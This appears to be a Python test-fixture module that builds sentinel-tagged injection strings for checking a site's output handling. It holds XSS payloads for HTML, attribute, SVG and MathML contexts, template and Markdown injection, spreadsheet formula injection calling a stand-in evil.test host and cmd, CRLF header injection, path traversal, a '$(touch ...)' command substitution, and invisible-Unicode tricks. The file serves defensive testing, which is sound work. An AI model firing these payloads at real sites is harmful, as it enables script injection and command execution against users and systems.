"""Texts that try to act, to deceive or to break a page, by the place that they aim at.

Written for this house from what browsers do: the HTML standard's parsing states, URL schemes, CSS,
SVG and MathML as foreign content, template languages, Markdown, Unicode. Each holds a sentinel, so
that a page that shows it can be told from one that does not, and one that obeys it from one that
does not.
"""

SENTINEL = "xq7sentinel"
TAG = f"<{SENTINEL}"
"""No page of ours opens such a tag; shown as words it is `&lt;` and the sentinel."""

_BODY = (
    "<script>{s}</script>", "<ScRiPt/x>{s}</sCrIpT>", "<img src=x onerror={s}>",
    "<svg onload={s}>", "<svg><script>{s}</script></svg>", "<svg><a xlink:href=javascript:{s}>x",
    "<svg><animate onbegin={s} attributeName=x dur=1s>", "<svg><use href=data:image/svg+xml,{s}>",
    "<svg><foreignObject><iframe src=//{s}.test></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={s}>", "<math href=javascript:{s}>x",
    "<iframe srcdoc='<script>{s}</script>'>", "<object data=data:text/html,{s}>",
    "<embed src=//{s}.test>", "<link rel=stylesheet href=//{s}.test>",
    "<meta http-equiv=refresh content='0;url=//{s}.test'>", "<base href=//{s}.test>",
    "<form action=//{s}.test><button>{s}", "<input autofocus onfocus={s}>",
    "<details open ontoggle={s}>", "<dialog open>{s}</dialog>", "<marquee onstart={s}>",
    "<video><source onerror={s}>", "<body onpageshow={s}>", "<style>@import '//{s}.test'</style>",
    "<template><script>{s}</script></template>", "<noscript><p title='</noscript><img src=x onerror={s}>'>",
    "<a href=javascript:{s}>x</a>", "<a href=' java\tscript:{s}'>x</a>", "<a target=_blank href=//{s}.test>x",
    "<plaintext>{s}", "<xmp>{s}</xmp>", "<!--><script>{s}</script-->", "<![CDATA[<script>{s}</script>]]>",
    "<?xml-stylesheet href=//{s}.test?>", "<!doctype html><html onload={s}>", "</p></div></section>{s}",
    "<button formaction=javascript:{s}>x", "<select><option>{s}</select>", "<q7 tabindex=1 onfocus={s}>",
)  # fmt: skip
_ATTRIBUTE = (
    '" onmouseover="{s}', "' onmouseover='{s}", "` onmouseover=`{s}", '"><b>{s}', "'/><i>{s}",
    '" style="background:url(//{s}.test)', '" autofocus onfocus={s} x="', "&quot; onclick=&quot;{s}",
    "&#34;&#62;&#60;script&#62;{s}", "%22%3E%3Cscript%3E{s}", "\\x22\\x3e{s}", "\\u0022\\u003e{s}",
)  # fmt: skip
_CLOSERS = (
    "</title><script>{s}</script>", "</textarea><script>{s}</script>", "</pre><script>{s}</script>",
    "</style><script>{s}</script>", "</script><script>{s}</script>", "</svg><script>{s}</script>",
    "--><script>{s}</script>", "]]><script>{s}</script>", "*/</style>{s}", "</option></select>{s}",
    "</template></noscript>{s}", "</td></tr></table><div>{s}",
)  # fmt: skip
_OTHER_READERS = (
    "{{{{ 7*7 }}}} {s}", "{{% raw %}}{s}", "${{7*7}} {s}", "#{{7*7}} {s}", "<%= 7*7 %> {s}", "{{{{constructor.constructor('{s}')()}}}}",
    "[{s}](javascript:alert(1))", "![{s}](//evil.test/x.png)", "<javascript:alert(1)> {s}",
    "[{s}]: javascript:alert(1)", "```html\n<script>{s}</script>\n```", "> <script>{s}</script>",
    '=HYPERLINK("//evil.test","{s}")', "+cmd|' /C calc'!{s}", "@SUM({s})", "javascript:{s}",
    "data:text/html,<script>{s}</script>", "vbscript:{s}", "\x1b]8;;//evil.test\x07{s}\x1b]8;;\x07",
    "{s}\r\nSet-Cookie: desk={s}", "{s}\r\n\r\n<html>", "../../../{s}", "{s}\x00<script>", "$(touch {s})", "%s%n%x {s}",
)  # fmt: skip
_UNSEEN = (
    "\u202e{s}\u202c", "\u2066{s}\u2069", "\u2067{s}", "a\u200b{s}\u200bb", "\ufeff{s}", "\u00ad{s}",
    "\U000e0053\U000e0045{s}", "\u3164{s}", "{s}" + "\u0301" * 400, "\u115f{s}\u1160", "\u2028<script>{s}",
    "\u2029{s}", "\ue000{s}", "\ud7a4{s}", "<\u200bscript>{s}", "\uff1cscript\uff1e{s}\uff1c/script\uff1e",
    "\u180e{s}", "\u2800{s}", "\ufe0f{s}", "\u061c{s}",
)  # fmt: skip
_LONG = ("{s}" + "W" * 1_000_000, "<b>" * 300_000 + "{s}", "{s} " + "\u0635\u0644\u0649 " * 30_000)

TEXTS = tuple(
    f"{text.format(s=SENTINEL)} {TAG} n={number}>"
    for number, text in enumerate((*_BODY, *_ATTRIBUTE, *_CLOSERS, *_OTHER_READERS, *_UNSEEN))
)
LONG = tuple(text.format(s=SENTINEL) for text in _LONG)


def several(start, many=6):
    """Return some of the texts as one, so that few fields carry all of them."""
    chosen = [TEXTS[(start + step) % len(TEXTS)] for step in range(many)]
    return "\n".join(chosen)
